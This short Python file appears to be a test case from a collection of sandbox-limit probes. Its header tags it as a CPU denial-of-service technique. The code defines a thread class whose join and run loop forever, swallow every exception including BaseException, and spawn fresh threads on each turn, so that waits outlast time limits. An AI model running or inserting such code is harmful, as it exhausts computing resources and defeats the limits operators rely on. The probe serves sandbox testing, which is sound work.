# technique: threads that are joined by their own join(), start another for each turn of a wait, and lie about being ready
# source: own: against waits that run what has been started
# goal: a wait that goes on after the limit
# impact: limit
# needs: soft-limit
# dos: cpu
# plain-cpython: dos (killed by the 5 s timeout)
import queue
import threading

items = queue.Queue()


class Ready(threading.Thread):
    def __eq__(self, other):
        threading.Thread(target=self.join).start()
        return False

    __hash__ = threading.Thread.__hash__

    def join(self, timeout=None):
        while True:
            try:
                items.put(Ready(target=self.join))
                self.is_alive()
                threading.Barrier(2).wait(1)
            except BaseException:
                Ready().start()
            finally:
                threading.Condition().__init__(threading.RLock())

    run = join


Ready().start()
